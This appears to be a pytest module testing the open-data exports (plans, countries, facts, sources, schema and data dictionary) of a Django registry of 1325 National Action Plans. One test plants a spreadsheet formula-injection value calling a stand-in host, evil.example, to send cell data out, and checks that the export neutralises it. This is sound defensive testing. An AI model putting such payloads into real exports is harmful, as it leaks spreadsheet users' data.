"""Open data: plans.csv / plans.json / countries.csv / schema.json and the data dictionary."""

import datetime
import json
import re
from pathlib import Path

import pytest
from django.urls import reverse

from naptrack.analysis.schema import (
    COUNTRY_COLUMNS,
    COUNTRY_FIELDS,
    FACT_FIELDS,
    PLAN_COLUMNS,
    PLAN_FIELDS,
    SOURCE_FIELDS,
)
from naptrack.registry.choices import Publication
from naptrack.registry.models import ActionPlan, Resolution
from tests.analysis import helpers
from tests.factories.registry import (
    ActionPlanFactory,
    CitationFactory,
    CountryFactory,
    PlanFactFactory,
)

pytestmark = pytest.mark.django_db
DICTIONARY = Path(__file__).resolve().parents[2] / "docs" / "data-dictionary.md"


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def plans_csv(client, **query) -> list[dict]:
    rows = helpers.csv_rows(body(client.get(reverse("analysis:plans_csv"), query)))
    assert rows[0] == PLAN_COLUMNS
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def plans_json(client, **query) -> dict:
    return json.loads(body(client.get(reverse("analysis:plans_json"), query)))


def test_plans_csv_has_every_reference_plan_once(client):
    rows = plans_csv(client)
    assert len(rows) == len(helpers.read("naps.csv")) + len(helpers.read("raps.csv")) == 256
    assert len({row["id"] for row in rows}) == 256
    assert {row["publication"] for row in rows} == {"published"}


def test_plans_csv_row_carries_the_reference_facts_and_sources(client):
    source = next(
        r for r in helpers.read("naps.csv") if r["iso3"] == "KEN" and r["plan_generation"] == "1"
    )
    rows = {row["reference_key"]: row for row in plans_csv(client, q="Kenya")}
    assert set(rows) == {"NAP:KEN:g1", "NAP:KEN:g2", "NAP:KEN:g3"}
    first = rows["NAP:KEN:g1"]
    assert first["owner_type"] == "country" and first["owner_code"] == "KEN"
    assert first["owner_name"] == "Kenya" and first["region"] == "Africa"
    # A year-only date is written as the year, not as 1 January.
    assert first["adoption_date"] == source["adoption_year"] == "2016"
    assert first["adoption_precision"] == "year"
    assert first["period_start"] == source["period_start"]
    assert first["period_end"] == source["period_end"]
    assert first["sources"] == source["source_url"]
    assert first["status_note"] == source["status_note"]
    assert first["confidence"] == source["confidence"]
    assert first["budget"] == "unknown" and first["generation"] == "1"
    assert first["successor_id"] == rows["NAP:KEN:g2"]["id"]
    assert rows["NAP:KEN:g2"]["predecessor_id"] == first["id"]
    assert first["url"] == f"http://testserver/plans/{first['id']}/"
    assert first["current_status"] == "superseded" and first["status"] == "adopted"


def test_plans_csv_joins_resolutions_with_semicolons(client):
    plan = ActionPlanFactory(country=CountryFactory(name="Resolutionland"))
    plan.resolutions.add(*Resolution.objects.filter(number__in=[1325, 1820]))
    CitationFactory(plan=plan, url="https://example.org/a")
    CitationFactory(plan=plan, url="https://example.org/b")
    (row,) = plans_csv(client, q="Resolutionland")
    assert row["resolutions"] == "1325;1820"
    assert row["sources"] == "https://example.org/a ; https://example.org/b"
    assert row["adoption_date"] == "2020-03-08" and row["adoption_precision"] == "day"


def test_plans_json_matches_csv_with_types(client):
    document = plans_json(client, q="Kenya")
    assert document["schema"] == "http://testserver/data/schema.json"
    assert document["licence"]["name"] == "CC-BY-4.0"
    plans = {p["reference_key"]: p for p in document["plans"]}
    csv_rows = {row["reference_key"]: row for row in plans_csv(client, q="Kenya")}
    assert set(plans) == set(csv_rows)
    first = plans["NAP:KEN:g1"]
    assert list(first) == PLAN_COLUMNS
    assert first["generation"] == 1 and first["period_end"] == 2018
    assert first["extended_to"] is None and first["predecessor_id"] is None
    assert first["sources"] == csv_rows["NAP:KEN:g1"]["sources"].split(" ; ")
    assert first["resolutions"] == []
    assert str(first["id"]) == csv_rows["NAP:KEN:g1"]["id"]


def test_plans_exports_apply_the_registry_filters(client):
    regional = plans_csv(client, owner_kind="regional")
    assert len(regional) == len(helpers.read("raps.csv"))
    assert {row["owner_type"] for row in regional} == {"regional_organization"}
    assert all(row["region"] == "" for row in regional)
    africa_2010 = plans_json(client, region="002", adopted_from=2010, adopted_to=2010)["plans"]
    expected = [
        r
        for r in helpers.national_plans()
        if r["adoption_year"] == "2010" and helpers.countries()[r["iso3"]]["region"] == "Africa"
    ]
    assert len(africa_2010) == len(expected) > 0


def test_plans_exports_reject_bad_filters_naming_them(client):
    response = client.get(reverse("analysis:plans_csv"), {"generation": "first"})
    assert response.status_code == 400
    assert "generation: Enter a whole number." in response.content.decode()
    response = client.get(
        reverse("analysis:plans_json"), {"adopted_from": 2020, "adopted_to": 2010}
    )
    assert response.status_code == 400
    assert "adopted_to:" in response.content.decode()


def test_countries_csv_lists_every_country_with_membership(client):
    response = client.get(reverse("analysis:countries_csv"))
    rows = helpers.csv_rows(body(response))
    assert rows[0] == COUNTRY_COLUMNS
    by_iso3 = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert set(by_iso3) == set(helpers.countries())
    assert sum(row["un_member"] == "true" for row in by_iso3.values()) == 193
    assert by_iso3["XKX"]["m49"] == "" and by_iso3["XKX"]["un_member"] == "false"
    assert by_iso3["PSE"]["un_member"] == "false"
    assert by_iso3["KEN"] == {
        "iso3": "KEN",
        "iso2": "KE",
        "m49": "404",
        "name": "Kenya",
        "region": "Africa",
        "subregion": "Sub-Saharan Africa",
        "un_member": "true",
        "source": helpers.countries()["KEN"]["source"],
    }


def test_schema_json_describes_every_column(client):
    package = client.get(reverse("analysis:schema_json")).json()
    resources = {r["name"]: r for r in package["resources"]}
    assert [f["name"] for f in resources["plans"]["schema"]["fields"]] == PLAN_COLUMNS
    assert [f["name"] for f in resources["countries"]["schema"]["fields"]] == COUNTRY_COLUMNS
    assert resources["plans"]["path"] == "http://testserver/data/plans.csv"
    assert package["licenses"][0]["name"] == "CC-BY-4.0"
    for resource in resources.values():
        for field in resource["schema"]["fields"]:
            assert field["description"] and field["type"] in {
                "string",
                "integer",
                "year",
                "boolean",
                "date",
            }


def dictionary_section(heading: str) -> str:
    doc = DICTIONARY.read_text()
    start = doc.index(f"## {heading}\n")
    end = doc.find("\n## ", start + 1)
    return doc[start : end if end != -1 else None]


@pytest.mark.parametrize(
    ("url", "heading", "fields"),
    [
        ("analysis:plans_csv", "plans.csv / plans.json", PLAN_FIELDS),
        ("analysis:countries_csv", "countries.csv", COUNTRY_FIELDS),
        ("analysis:facts_csv", "facts.csv", FACT_FIELDS),
        ("analysis:sources_csv", "sources.csv", SOURCE_FIELDS),
    ],
)
def test_every_csv_column_is_in_the_schema_and_the_data_dictionary(client, url, heading, fields):
    written = helpers.csv_rows(body(client.get(reverse(url))))[0]
    assert written == [f["name"] for f in fields]
    section = dictionary_section(heading)
    for field in fields:
        name = field["name"]
        line = re.search(rf"^\| `{name}` \| {field['type']} \| (.*?) \|", section, re.M)
        assert line, f"{name} is not in the {heading} section of docs/data-dictionary.md"
        assert line.group(1).replace("\\|", "|") == field["description"], name


def test_schema_enums_allow_every_exported_value(client):
    enums = {
        f["name"]: f["constraints"]["enum"]
        for f in PLAN_FIELDS
        if "enum" in f.get("constraints", {})
    }
    for row in plans_csv(client):
        for name, allowed in enums.items():
            assert row[name] in allowed or (row[name] == "" and not _required(name)), (name, row)


def _required(name: str) -> bool:
    field = next(f for f in PLAN_FIELDS if f["name"] == name)
    return field.get("constraints", {}).get("required", False)


def test_open_data_page_explains_files_and_licence(client):
    html = client.get(reverse("analysis:open_data")).content.decode()
    for path in ("/data/plans.csv", "/data/plans.json", "/data/countries.csv", "/data/schema.json"):
        assert f'href="{path}"' in html
    assert "named public sources" in html and "Creative Commons Attribution 4.0" in html
    assert 'formaction="/data/plans.json"' in html and 'name="generation"' in html


def test_exports_hide_a_draft_successor_id(client):
    published = ActionPlanFactory(country=CountryFactory(name="Neighbourland"), generation=1)
    ActionPlanFactory(
        country=published.country,
        generation=2,
        predecessor=published,
        publication=Publication.DRAFT,
    )
    (row,) = plans_csv(client, q="Neighbourland")
    assert row["id"] == str(published.pk) and row["successor_id"] == ""


@pytest.mark.parametrize("plans", [1, 3])
@pytest.mark.parametrize("export", ["plans_csv", "plans_json"])
def test_plans_export_query_count_does_not_grow(client, django_assert_num_queries, plans, export):
    land = CountryFactory(name="Querycountland")
    for generation in range(1, plans + 1):
        plan = ActionPlanFactory(country=land, generation=generation)
        CitationFactory(plan=plan)
        plan.resolutions.add(Resolution.objects.get(number=1325))
    # The filter form's regions, the plans, their citations, their resolutions.
    with django_assert_num_queries(4):
        content = body(client.get(reverse(f"analysis:{export}"), {"q": "Querycountland"}))
    assert content.count(b"Querycountland") == plans
    assert ActionPlan.objects.filter(country=land).count() == plans


@pytest.mark.parametrize("extra", [1, 3])
def test_countries_export_query_count_does_not_grow(client, django_assert_num_queries, extra):
    for _ in range(extra):
        CountryFactory()
    with django_assert_num_queries(1):
        rows = helpers.csv_rows(body(client.get(reverse("analysis:countries_csv"))))
    assert len(rows) == 1 + 248 + extra


def test_plans_csv_never_carries_a_live_formula(client):
    marker = '=HYPERLINK("http://evil.example/?"&A1,"Formulaland")'
    ActionPlanFactory(country=CountryFactory(name="Formulaland"), title=marker, period_start=2020)
    (row,) = plans_csv(client, q="Formulaland")
    assert row["title"] == "'" + marker
    assert row["period_start"] == "2020"


def test_facts_csv_writes_each_coded_fact_with_its_source(client, kenya):
    plan = ActionPlanFactory(country=kenya, title="Facts plan")
    PlanFactFactory(
        plan=plan,
        code="budget_amount",
        value="4500000 KES",
        source_url="https://example.gov/nap",
        source_date=datetime.date(2021, 5, 1),
        source_precision="month",
        quote="A budget of KES 4.5 million.",
        location="p.12",
        confidence="high",
    )
    rows = helpers.csv_rows(body(client.get(reverse("analysis:facts_csv"), {"q": "Facts plan"})))
    assert rows[1:] == [
        [
            str(plan.pk),
            "",
            "budget_amount",
            "4500000 KES",
            "https://example.gov/nap",
            "Example country | 1325 National Action Plans",
            "WILPF PeaceWomen",
            "2021-05",
            "A budget of KES 4.5 million.",
            "p.12",
            "high",
            "platform",
            "2026-12-01",
        ]
    ]


def test_sources_csv_writes_citations_as_references(client, kenya):
    plan = ActionPlanFactory(country=kenya, title="Sources plan")
    CitationFactory(plan=plan, url="https://example.gov/nap", title="The plan", kind="official")
    CitationFactory(plan=plan, url="https://example.org/list", title="All plans", kind="listing")
    query = {"q": "Sources plan"}
    rows = helpers.csv_rows(body(client.get(reverse("analysis:sources_csv"), query)))
    assert [(r[2], r[3], r[6], r[8]) for r in rows[1:]] == [
        ("https://example.gov/nap", "The plan", "official", "false"),
        ("https://example.org/list", "All plans", "listing", "true"),
    ]


@pytest.mark.parametrize("url", ["analysis:facts_csv", "analysis:sources_csv"])
def test_facts_and_sources_of_draft_plans_do_not_leak(client, kenya, url):
    draft = ActionPlanFactory(country=kenya, publication=Publication.DRAFT)
    PlanFactFactory(plan=draft, source_url="https://example.org/leak-marker-5521")
    CitationFactory(plan=draft, url="https://example.org/leak-marker-5521")
    assert b"leak-marker-5521" not in body(client.get(reverse(url)))


@pytest.mark.parametrize("count", [1, 3])
def test_facts_csv_query_count_does_not_grow(client, kenya, django_assert_num_queries, count):
    plan = ActionPlanFactory(country=kenya, title="Counted plan")
    PlanFactFactory.create_batch(count, plan=plan)
    # The filter form's choices, then the facts with their plans: one query each.
    with django_assert_num_queries(2):
        content = body(client.get(reverse("analysis:facts_csv"), {"q": "Counted plan"}))
    assert len(helpers.csv_rows(content)) == count + 1
